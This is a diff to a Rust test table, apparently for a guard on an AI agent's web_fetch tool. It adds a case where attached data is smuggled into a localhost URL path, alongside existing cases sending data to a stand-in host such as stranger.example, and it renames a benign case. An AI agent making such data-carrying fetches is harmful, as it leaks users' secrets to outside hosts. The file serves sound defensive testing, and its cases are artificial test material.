@@ -117,6 +117,13 @@ fn sending(p: &Places<'_>) -> Vec<Attack> {
             fetch(format!("http://mark.{ATTACHED}.stranger.example/")),
         ),
         row(
+            "fetch, a key in a short address",
+            By::PageAndFile,
+            Must::Wait,
+            "web_fetch",
+            fetch(format!("http://127.0.0.1:{s}/MARK/{ATTACHED}")),
+        ),
+        row(
             "fetch, data percent-encoded",
             By::PageAndFile,
             Must::Wait,
@@ -356,7 +363,7 @@ fn plain_work(p: &Places<'_>) -> Vec<Attack> {
             json!({"url": format!("http://localhost:{t}/?MARK={ATTACHED}&more=0123456789")}),
         ),
         row(
-            "a short address after all that",
+            "a link of the page after all that",
             By::PageAndFile,
             Must::Work(1),
             "web_fetch",
